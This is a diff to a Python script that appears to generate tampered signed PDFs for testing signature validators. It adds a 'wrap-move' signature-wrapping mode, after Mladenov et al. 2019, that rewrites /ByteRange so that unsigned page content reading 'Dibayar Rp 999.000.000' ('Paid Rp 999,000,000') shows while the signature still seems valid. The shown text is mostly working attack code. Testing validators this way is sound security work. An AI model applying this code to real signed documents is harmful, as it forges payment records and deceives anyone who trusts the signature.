@@ -17,6 +17,9 @@ Modes (the last signature is the one attacked):
   dup             incremental update defining one object twice (for signing afterwards)
   wrap-gap        Signature Wrapping: /ByteRange's gap widened to start inside the dictionary
   wrap-overlap    Signature Wrapping: /ByteRange with overlapping ranges
+  wrap-move       Signature Wrapping after Mladenov et al. 2019: the second signed range is
+                  relocated towards the end of the file, /ByteRange points at it, and
+                  unsigned objects (new page content) fill the space between /Contents and it
   shadow-prep     incremental update adding an unused content stream (for signing afterwards)
   shadow-switch   incremental update pointing page 1's /Contents at that hidden stream
                   (hide-and-replace)
@@ -120,6 +123,18 @@ elif mode in ('wrap-gap', 'wrap-overlap'):
     new = {'wrap-gap': b'/ByteRange [0 %d %d %d]' % (b - 20, c, e),
            'wrap-overlap': b'/ByteRange [0 %d %d %d]' % (b, b - 10, e)}[mode]
     d[m.start():m.end()] = same_len(old, new)
+elif mode == 'wrap-move':
+    m = last_sig()
+    a, b, c, e = map(int, m.groups())
+    num, page = page1()
+    cnum = int(re.search(rb'/Contents\s+(\d+)\s+0\s+R', page).group(1))
+    text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
+    # the rest of the signature dictionary is repeated so that it still parses
+    tail = bytes(d[c:d.index(b'endobj', c) + 6])
+    evil = tail + b'\n%d 0 obj\n<< /Length %d >>\nstream\n' % (cnum, len(text)) + text + b'\nendstream\nendobj\n'
+    old = m.group(0)
+    d[m.start():m.end()] = same_len(old, b'/ByteRange [0 %d %d %d]' % (b, c + len(evil), e))
+    d[c:c] = evil
 elif mode == 'shadow-prep':
     size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
     text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
